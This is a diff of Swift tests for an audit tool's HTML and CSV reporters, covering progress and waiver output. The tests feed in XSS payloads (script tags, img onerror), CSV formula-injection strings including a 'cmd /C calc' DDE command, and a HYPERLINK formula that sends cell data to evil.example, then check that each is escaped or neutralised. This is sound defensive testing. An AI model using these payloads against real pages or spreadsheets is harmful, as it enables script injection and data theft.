@@ -25,6 +25,20 @@ private func hostileOutcome(formats: [AuditConfiguration.Format], output: String
     return try AuditPipeline(layout: ProjectLayout(root: ".")).run(config)
 }
 
+/// The progress fixture audit (baseline and waivers) with `hostile-waivers.yaml`: markup and formulas in
+/// waiver reasons, approvers and scopes.
+private func hostileWaiversOutcome(formats: [AuditConfiguration.Format], output: String) throws -> AuditOutcome {
+    _ = FileManager.default.changeCurrentDirectoryPath(root)
+    let fixtures = "Tests/EndToEndTests/Fixtures"
+    var config = AuditConfiguration(standards: ["\(fixtures)/e2e-standard.yaml"], asOf: Day(iso: "2026-06-30")!, output: output)
+    config.fees = ["\(fixtures)/fees.csv"]
+    config.assessments = ["\(fixtures)/answers-policy-yes.csv"]
+    config.baseline = "\(fixtures)/baseline.json"
+    config.waivers = "\(fixtures)/hostile-waivers.yaml"
+    config.formats = formats
+    return try AuditPipeline(layout: ProjectLayout(root: ".")).run(config)
+}
+
 /// Rows of a CSV file as the test reads them back (RFC 4180, as written by CSVReporter).
 private func parseCSV(_ text: String) -> [[String]] {
     var rows: [[String]] = [], row: [String] = [], field = "", quoted = false
@@ -48,6 +62,66 @@ private func parseCSV(_ text: String) -> [[String]] {
 @Suite(.serialized) struct HTMLReporterTests {
     @Test func htmlReportMatchesItsSnapshot() throws {
         try assertSnapshot(html(ReporterTests().fixtureReport()), named: "fixture-report.html")
+    }
+
+    /// Baseline and waivers: the progress section, change badges, fixed findings, action states, waivers.
+    @Test func progressHTMLMatchesItsSnapshot() throws {
+        let page = try html(ReporterTests().progressReport())
+        try assertSnapshot(page, named: "progress-report.html")
+        #expect(page.contains("<a href=\"#progress\">Progress</a>"))
+        #expect(page.contains("<p>Compared with the audit of <strong class=\"nowrap\">2026-03-31</strong>.</p>"))
+        #expect(page.contains("<span class=\"value tone change-down\">-3.3</span><span class=\"unit\">20.0 then, 16.7 now</span>"))
+        #expect(page.contains("<span class=\"value\">11.1</span><span class=\"unit\">rating E; with waivers 16.7, rating E</span>"))
+        for (count, change) in [(1, "new"), (1, "regressed"), (1, "unchanged"), (1, "fixed")] {
+            #expect(page.contains("<span class=\"pill change change-\(change)\">\(count) \(change)</span>"))
+        }
+        #expect(page.contains("<span class=\"pill change change-regressed\">regressed</span> <span class=\"pill change waived\">waived</span> <code>e2e-zero-fee/receipts/1</code>"))
+        #expect(page.contains("<p>Since the previous audit: 1 new, 0 regressed, 1 unchanged, 1 fixed worker(s).</p>"))
+        #expect(page.contains("<td data-label=\"Finding\"><code>e2e-zero-fee/policy/1</code><br>A written policy</td>"))
+        #expect(page.contains("<td data-label=\"Due\" class=\"nowrap\">2026-03-30 <span class=\"pill overdue\">overdue</span></td>"))
+        #expect(page.contains("<td data-label=\"State\"><span class=\"state state-in_progress\">in progress</span></td>"))
+        #expect(page.contains("<td data-label=\"Status\"><span class=\"pill waiver-expired\">expired</span></td>"))
+        #expect(!page.contains("B-2"))   // another agency's waiver
+    }
+
+    /// Without a history, baseline or waivers the page has none of the progress fields, not even their style.
+    @Test func aReportWithoutProgressHasNoProgressFields() throws {
+        let page = try html(ReporterTests().fixtureReport())
+        for absent in ["id=\"progress\"", "#progress", "change-", "overdue", "First detected", "waiver", "Fixed since"] {
+            #expect(!page.contains(absent), "\(absent)")
+        }
+    }
+
+    @Test func waiverTextIsEscaped() throws {
+        var report = try ReporterTests().progressReport()
+        let progress = try #require(report.result.progress)
+        report.result.progress?.waivers[0].waiver.reason = "<script>alert(1)</script>"
+        report.result.progress?.waivers[0].waiver.approver = "\"><img src=x onerror=alert(1)>"
+        #expect(progress.waivers[0].status == .applied)
+        let page = try html(report)
+        #expect(!page.contains("<script"))
+        #expect(!page.contains("<img"))
+        #expect(page.contains("<td data-label=\"Reason\" class=\"id\">&lt;script&gt;alert(1)&lt;/script&gt;</td>"))
+        #expect(page.contains("<td data-label=\"Approver\" class=\"id\">&quot;&gt;&lt;img src=x onerror=alert(1)&gt;</td>"))
+    }
+
+    /// The same from a waivers file, with markup in a scope too, and a baseline whose rating is markup.
+    @Test func hostileWaiversFromAFileAreShownAsText() throws {
+        let out = temporaryFolder("hostile-waivers-html")
+        _ = try hostileWaiversOutcome(formats: [.html], output: out)
+        let page = try String(contentsOfFile: out + "/report.html", encoding: .utf8)
+        #expect(!page.contains("<script"))
+        #expect(!page.contains("<img"))
+        #expect(!page.contains("<b>"))
+        #expect(page.contains("<td data-label=\"Reason\" class=\"id\">&lt;script&gt;alert(1)&lt;/script&gt;</td>"))
+        #expect(page.contains("<td data-label=\"Approver\" class=\"id\">&quot;&gt;&lt;img src=x onerror=alert(1)&gt;</td>"))
+        #expect(page.contains("<td data-label=\"Scope\" class=\"id\">workers =cmd|&#39; /C calc&#39;!A0, &lt;b&gt;W1&lt;/b&gt;</td>"))
+
+        var report = try ReporterTests().progressReport()
+        report.result.progress?.previous?.rating = "\"><script>alert(1)</script>"
+        let rated = try html(report)
+        #expect(!rated.contains("<script"))
+        #expect(rated.contains("<span class=\"value\">&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt; → E</span>"))
     }
 
     @Test func inputDerivedTextIsEscapedInTextAndAttributes() throws {
@@ -152,8 +226,55 @@ private func parseCSV(_ text: String) -> [[String]] {
 @Suite(.serialized) struct CSVReporterTests {
     @Test func csvExportsMatchTheirSnapshots() throws {
         let files = CSVReporter().files(for: try ReporterTests().fixtureReport())
-        #expect(files.map(\.name) == ["findings.csv", "actions.csv", "reimbursements.csv", "rejections.csv"])
+        #expect(files.map(\.name) == ["findings.csv", "actions.csv", "reimbursements.csv", "rejections.csv", "waivers.csv"])
         for file in files { try assertSnapshot(file.contents, named: "fixture-" + file.name) }
+        // Without progress, the progress columns are there (fixed columns) and empty.
+        for (index, columns) in [(0, ["change", "waived"]), (1, ["state", "overdue", "first_detected", "waived"])] {
+            let rows = parseCSV(files[index].contents)
+            #expect(Array(rows[0].suffix(columns.count)) == columns)
+            #expect(rows.dropFirst().allSatisfy { $0.count == rows[0].count && $0.suffix(columns.count).allSatisfy(\.isEmpty) })
+        }
+        #expect(parseCSV(files[4].contents) == [CSVReporter.columns[4].columns])
+    }
+
+    @Test func progressCSVExportsMatchTheirSnapshots() throws {
+        let report = try ReporterTests().progressReport()
+        let files = CSVReporter().files(for: report)
+        // reimbursements.csv and rejections.csv have no progress columns: the fixture's snapshots cover them.
+        for file in files where ["findings.csv", "actions.csv", "waivers.csv"].contains(file.name) {
+            try assertSnapshot(file.contents, named: "progress-" + file.name)
+        }
+        let findings = parseCSV(files[0].contents)
+        let column = { (name: String) in findings[0].firstIndex(of: name)! }
+        var changes: [String: Set<String>] = [:]
+        for row in findings.dropFirst() { changes[row[column("finding_id")], default: []].insert(row[column("change")] + "/" + row[column("waived")]) }
+        #expect(changes == ["e2e-zero-fee/no-fees/1": ["unchanged/no"], "e2e-zero-fee/no-fees/2": ["new/no"],
+                            "e2e-zero-fee/receipts/1": ["regressed/yes"], "e2e-zero-fee/policy/1": ["fixed/no"]])
+        #expect(findings.last?[column("status")] == "met")   // the fixed finding, with its check's status now
+        let actions = parseCSV(files[1].contents)
+        let noFees = try #require(actions.first { $0[1] == "e2e-zero-fee/no-fees" })
+        #expect(Array(noFees.suffix(4)) == ["in_progress", "yes", "2026-02-28", "no"])
+        let receipts = try #require(actions.first { $0[1] == "e2e-zero-fee/receipts" })
+        #expect(Array(receipts.suffix(4)) == ["open", "no", "2026-06-30", "yes"])
+        let waivers = parseCSV(files[4].contents)
+        #expect(waivers.dropFirst().map { [$0[2], $0[6], $0[7]] } == [["receipts", "applied", "yes"], ["policy", "expired", "no"]])
+    }
+
+    @Test func waiverTextInCSVIsNeutralisedAndQuoted() throws {
+        let out = temporaryFolder("hostile-waivers-csv")
+        _ = try hostileWaiversOutcome(formats: [.csv], output: out)
+        let rows = parseCSV(try String(contentsOfFile: out + "/waivers.csv", encoding: .utf8))
+        #expect(rows[0] == CSVReporter.columns[4].columns)
+        let column = { (name: String) in rows[0].firstIndex(of: name)! }
+        #expect(rows.count == 4 && rows.dropFirst().allSatisfy { $0.count == rows[0].count })
+        #expect(rows[1][column("reason")] == "<script>alert(1)</script>")
+        #expect(rows[1][column("approver")] == "\"><img src=x onerror=alert(1)>")
+        #expect(rows[2][column("reason")] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")
+        #expect(rows[2][column("approver")] == "'@SUM(1+1)")
+        #expect(rows[2][column("scope_workers")] == "'=cmd|' /C calc'!A0 <b>W1</b>")
+        #expect(rows[2][column("status")] == "applied" && rows[2][column("applied")] == "yes")
+        #expect(rows[3][column("reason")] == "'-2+3" && rows[3][column("approver")] == "'+1")
+        #expect(rows[3][column("expires")] == "2026-01-01" && rows[3][column("status")] == "expired")
     }
 
     @Test func textCellsThatStartAFormulaAreNeutralised() {
